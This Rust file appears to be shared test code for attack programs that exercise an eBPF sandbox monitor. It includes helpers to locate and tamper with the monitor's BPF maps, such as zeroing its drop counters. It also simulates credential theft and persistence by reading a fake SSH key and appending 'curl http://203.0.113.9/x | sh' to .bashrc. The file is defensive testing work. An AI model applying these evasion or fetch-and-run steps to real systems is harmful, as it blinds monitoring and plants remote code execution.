//! What the attack programs (`tests/src/bin/attack_*.rs`) share: raw bpf(2), finding the
//! monitor that watches us, and the three actions every attack tries to hide.
//!
//! Each attack program includes this file with `#[path = "../attack_common.rs"] mod common;`.
//! The actions are the ones issue 13 lists: read `$ATTACK_HOME/.ssh/id_rsa` (a credential),
//! connect to 127.0.0.1 (a `network` violation when the run passes `--allow-net 10.0.0.0/8`)
//! and append to `$ATTACK_HOME/.bashrc` (persistence). The programs only ever touch the maps,
//! links and processes of the monitor that traces them: several monitors may run at once.
#![allow(dead_code)]

use std::ffi::CString;
use std::io::{Read as _, Write as _};
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::path::{Path, PathBuf};

/// Prints one line of what the attack did, for the person reading the run.
pub fn say(what: &str) {
    eprintln!("attack[{}]: {what}", std::process::id());
}

pub fn die(what: &str) -> ! {
    say(&format!("FAILED: {what}"));
    std::process::exit(70)
}

pub fn tgid() -> u32 {
    std::process::id()
}

// ---- bpf(2) ----

pub const BPF_MAP_LOOKUP_ELEM: i64 = 1;
pub const BPF_MAP_UPDATE_ELEM: i64 = 2;
pub const BPF_MAP_DELETE_ELEM: i64 = 3;
pub const BPF_MAP_GET_NEXT_KEY: i64 = 4;
pub const BPF_PROG_GET_NEXT_ID: i64 = 11;
pub const BPF_MAP_GET_NEXT_ID: i64 = 12;
pub const BPF_PROG_GET_FD_BY_ID: i64 = 13;
pub const BPF_MAP_GET_FD_BY_ID: i64 = 14;
pub const BPF_OBJ_GET_INFO_BY_FD: i64 = 15;
pub const BPF_LINK_GET_FD_BY_ID: i64 = 30;
pub const BPF_LINK_GET_NEXT_ID: i64 = 31;
pub const BPF_LINK_DETACH: i64 = 34;

/// `union bpf_attr`, zeroed: every command reads its own fields from the start of it.
#[repr(C, align(8))]
pub struct Attr(pub [u8; 128]);

impl Attr {
    pub fn new() -> Attr {
        Attr([0; 128])
    }
    pub fn u32(mut self, offset: usize, v: u32) -> Attr {
        self.0[offset..offset + 4].copy_from_slice(&v.to_ne_bytes());
        self
    }
    pub fn u64(mut self, offset: usize, v: u64) -> Attr {
        self.0[offset..offset + 8].copy_from_slice(&v.to_ne_bytes());
        self
    }
    pub fn get_u32(&self, offset: usize) -> u32 {
        u32::from_ne_bytes(self.0[offset..offset + 4].try_into().unwrap())
    }
}

/// bpf(cmd, attr, sizeof attr): the result, or the errno.
pub fn bpf(cmd: i64, attr: &mut Attr) -> Result<i64, std::io::Error> {
    // SAFETY: attr is a valid, writable 128-byte buffer; the kernel reads at most that much.
    let r = unsafe { libc::syscall(libc::SYS_bpf, cmd, attr.0.as_mut_ptr(), 128u32) };
    if r < 0 {
        Err(std::io::Error::last_os_error())
    } else {
        Ok(r)
    }
}

/// `struct bpf_map_info` (uapi), the part every kernel since 4.18 fills.
#[repr(C)]
#[derive(Clone, Copy, Debug, Default)]
pub struct MapInfo {
    pub map_type: u32,
    pub id: u32,
    pub key_size: u32,
    pub value_size: u32,
    pub max_entries: u32,
    pub map_flags: u32,
    pub name: [u8; 16],
    pub ifindex: u32,
    pub btf_vmlinux_value_type_id: u32,
    pub netns_dev: u64,
    pub netns_ino: u64,
    pub btf_id: u32,
    pub btf_key_type_id: u32,
    pub btf_value_type_id: u32,
    pub _pad: u32,
    pub map_extra: u64,
}

impl MapInfo {
    pub fn name(&self) -> String {
        let end = self.name.iter().position(|&b| b == 0).unwrap_or(16);
        String::from_utf8_lossy(&self.name[..end]).into_owned()
    }
}

pub const BPF_MAP_TYPE_PERCPU_ARRAY: u32 = 6;

pub struct Map {
    pub fd: OwnedFd,
    pub info: MapInfo,
}

pub fn map_by_id(id: u32) -> Result<Map, std::io::Error> {
    let fd = bpf(BPF_MAP_GET_FD_BY_ID, &mut Attr::new().u32(0, id))?;
    // SAFETY: the kernel just gave us this fd.
    let fd = unsafe { OwnedFd::from_raw_fd(fd as i32) };
    let info = map_info(fd.as_raw_fd())?;
    Ok(Map { fd, info })
}

pub fn map_info(fd: i32) -> Result<MapInfo, std::io::Error> {
    let mut info = MapInfo::default();
    let mut attr = Attr::new()
        .u32(0, fd as u32)
        .u32(4, std::mem::size_of::<MapInfo>() as u32)
        .u64(8, (&raw mut info) as u64);
    bpf(BPF_OBJ_GET_INFO_BY_FD, &mut attr)?;
    Ok(info)
}

/// Every map id in the kernel (BPF_MAP_GET_NEXT_ID from 0).
pub fn map_ids() -> Vec<u32> {
    next_ids(BPF_MAP_GET_NEXT_ID)
}

pub fn link_ids() -> Vec<u32> {
    next_ids(BPF_LINK_GET_NEXT_ID)
}

fn next_ids(cmd: i64) -> Vec<u32> {
    let mut ids = Vec::new();
    let mut id = 0u32;
    loop {
        let mut attr = Attr::new().u32(0, id);
        if bpf(cmd, &mut attr).is_err() {
            return ids;
        }
        id = attr.get_u32(4);
        ids.push(id);
    }
}

pub fn lookup(fd: &OwnedFd, key: &[u8], value: &mut [u8]) -> Result<(), std::io::Error> {
    let mut attr = Attr::new()
        .u32(0, fd.as_raw_fd() as u32)
        .u64(8, key.as_ptr() as u64)
        .u64(16, value.as_mut_ptr() as u64);
    bpf(BPF_MAP_LOOKUP_ELEM, &mut attr).map(drop)
}

pub fn update(fd: &OwnedFd, key: &[u8], value: &[u8]) -> Result<(), std::io::Error> {
    let mut attr = Attr::new()
        .u32(0, fd.as_raw_fd() as u32)
        .u64(8, key.as_ptr() as u64)
        .u64(16, value.as_ptr() as u64);
    bpf(BPF_MAP_UPDATE_ELEM, &mut attr).map(drop)
}

pub fn delete(fd: &OwnedFd, key: &[u8]) -> Result<(), std::io::Error> {
    let mut attr = Attr::new()
        .u32(0, fd.as_raw_fd() as u32)
        .u64(8, key.as_ptr() as u64);
    bpf(BPF_MAP_DELETE_ELEM, &mut attr).map(drop)
}

/// The TRACED map that holds our own tgid: the one of the monitor that watches us (the only
/// one, since a tgid is traced by one monitor in these tests).
pub fn our_traced_map() -> Option<Map> {
    let me = tgid().to_ne_bytes();
    for id in map_ids() {
        let Ok(map) = map_by_id(id) else { continue };
        if map.info.name() != "TRACED" || map.info.key_size != 4 {
            continue;
        }
        let mut value = vec![0u8; map.info.value_size as usize];
        if lookup(&map.fd, &me, &mut value).is_ok() {
            return Some(map);
        }
    }
    None
}

/// The ids of the BPF objects (maps, programs, links) a process holds fds of, from
/// /proc/PID/fdinfo (root may read another process's).
#[derive(Debug, Default)]
pub struct HeldIds {
    pub maps: Vec<u32>,
    pub progs: Vec<u32>,
    pub links: Vec<u32>,
}

pub fn held_ids(pid: i32) -> HeldIds {
    let mut out = HeldIds::default();
    let Ok(dir) = std::fs::read_dir(format!("/proc/{pid}/fdinfo")) else {
        return out;
    };
    for entry in dir.flatten() {
        let Ok(text) = std::fs::read_to_string(entry.path()) else {
            continue;
        };
        let field = |name: &str| {
            text.lines()
                .find_map(|l| l.strip_prefix(name))
                .and_then(|v| v.trim().parse::<u32>().ok())
        };
        if let Some(id) = field("link_id:") {
            out.links.push(id);
        } else if let Some(id) = field("map_id:") {
            out.maps.push(id);
        } else if let Some(id) = field("prog_id:") {
            out.progs.push(id);
        }
    }
    out.maps.sort_unstable();
    out.maps.dedup();
    out.progs.sort_unstable();
    out.progs.dedup();
    out.links.sort_unstable();
    out.links.dedup();
    out
}

/// A map of the monitor by name (only among the maps the monitor holds).
pub fn monitor_map(monitor: i32, name: &str) -> Option<Map> {
    held_ids(monitor)
        .maps
        .into_iter()
        .filter_map(|id| map_by_id(id).ok())
        .find(|m| m.info.name() == name)
}

pub fn possible_cpus() -> usize {
    let text = std::fs::read_to_string("/sys/devices/system/cpu/possible").unwrap_or_default();
    let mut n = 0;
    for part in text.trim().split(',') {
        match part.split_once('-') {
            Some((a, b)) => {
                n += b.parse::<usize>().unwrap_or(0) - a.parse::<usize>().unwrap_or(0) + 1
            }
            None if !part.is_empty() => n += 1,
            None => {}
        }
    }
    n.max(1)
}

/// Sets every slot of a per-CPU u64 array map (the monitor's DROPS) to zero on every CPU.
/// Returns how many drops were there before.
pub fn zero_percpu_counters(map: &Map) -> Result<u64, std::io::Error> {
    let cpus = possible_cpus();
    let stride = (map.info.value_size as usize).div_ceil(8) * 8;
    let mut before = 0u64;
    for slot in 0..map.info.max_entries {
        let key = slot.to_ne_bytes();
        let mut values = vec![0u8; stride * cpus];
        lookup(&map.fd, &key, &mut values)?;
        for c in 0..cpus {
            before += u64::from_ne_bytes(values[c * stride..c * stride + 8].try_into().unwrap());
        }
        update(&map.fd, &key, &vec![0u8; stride * cpus])?;
    }
    Ok(before)
}

// ---- the monitor ----

/// The sandbox-watch process that watches us: `$MONITOR_PID`, else the nearest ancestor whose
/// executable's name starts with "sandbox-watch".
pub fn monitor_pid() -> i32 {
    if let Some(pid) = std::env::var("MONITOR_PID")
        .ok()
        .and_then(|s| s.parse().ok())
    {
        return pid;
    }
    let mut pid = std::os::unix::process::parent_id() as i32;
    while pid > 1 {
        let exe = std::fs::read_link(format!("/proc/{pid}/exe")).unwrap_or_default();
        if exe
            .file_name()
            .is_some_and(|n| n.to_string_lossy().starts_with("sandbox-watch"))
        {
            return pid;
        }
        pid = ppid_of(pid).unwrap_or(0);
    }
    die("no sandbox-watch among my ancestors (set MONITOR_PID)")
}

pub fn ppid_of(pid: i32) -> Option<i32> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let after = &stat[stat.rfind(')')? + 2..];
    after.split(' ').nth(1)?.parse().ok()
}

/// The monitor's threads (ids), from /proc/PID/task.
pub fn threads_of(pid: i32) -> Vec<i32> {
    std::fs::read_dir(format!("/proc/{pid}/task"))
        .map(|d| {
            d.flatten()
                .filter_map(|e| e.file_name().to_str()?.parse().ok())
                .collect()
        })
        .unwrap_or_default()
}

/// The value of `--OPTION PATH` on the monitor's command line, made absolute with its cwd.
pub fn monitor_option(monitor: i32, option: &str) -> Option<PathBuf> {
    let raw = std::fs::read(format!("/proc/{monitor}/cmdline")).ok()?;
    let args: Vec<&[u8]> = raw.split(|&b| b == 0).collect();
    let i = args.iter().position(|a| *a == option.as_bytes())?;
    let value = std::str::from_utf8(args.get(i + 1)?).ok()?;
    let path = PathBuf::from(value);
    Some(if path.is_absolute() {
        path
    } else {
        std::fs::read_link(format!("/proc/{monitor}/cwd"))
            .ok()?
            .join(path)
    })
}

// ---- what the attacks hide ----

pub fn attack_home() -> PathBuf {
    match std::env::var_os("ATTACK_HOME") {
        Some(h) => PathBuf::from(h),
        None => die("set ATTACK_HOME to a directory with .ssh/id_rsa (see prepare_home)"),
    }
}

/// Makes `home/.ssh/id_rsa` and `home/.bashrc` (test files, not real secrets).
pub fn prepare_home(home: &Path) {
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(
        home.join(".ssh/id_rsa"),
        b"-----BEGIN TEST KEY-----\nnot a real key\n-----END TEST KEY-----\n",
    )
    .unwrap();
    std::fs::write(home.join(".bashrc"), b"# test bashrc\n").unwrap();
}

/// A loopback listener to connect to (made before the attack, so its listen is not hidden).
pub fn listener() -> std::net::TcpListener {
    std::net::TcpListener::bind("127.0.0.1:0").expect("a loopback listener")
}

/// Reads the key, connects to `port` on loopback and appends to .bashrc: what a run with
/// `--fail-on credential,network,persistence --allow-net 10.0.0.0/8` must catch.
pub fn act(home: &Path, port: u16) {
    let key = home.join(".ssh/id_rsa");
    let mut text = String::new();
    match std::fs::File::open(&key).and_then(|mut f| f.read_to_string(&mut text)) {
        Ok(n) => say(&format!("read {} ({n} bytes)", key.display())),
        Err(e) => say(&format!("reading {}: {e}", key.display())),
    }
    match std::net::TcpStream::connect(("127.0.0.1", port)) {
        Ok(_) => say(&format!("connected to 127.0.0.1:{port}")),
        Err(e) => say(&format!("connect 127.0.0.1:{port}: {e}")),
    }
    let rc = home.join(".bashrc");
    match std::fs::OpenOptions::new()
        .append(true)
        .open(&rc)
        .and_then(|mut f| f.write_all(b"curl http://203.0.113.9/x | sh # planted\n"))
    {
        Ok(()) => say(&format!("appended to {}", rc.display())),
        Err(e) => say(&format!("appending to {}: {e}", rc.display())),
    }
}

pub fn cstr(p: &Path) -> CString {
    CString::new(p.as_os_str().as_encoded_bytes()).unwrap()
}

pub fn sleep_ms(ms: u64) {
    std::thread::sleep(std::time::Duration::from_millis(ms));
}
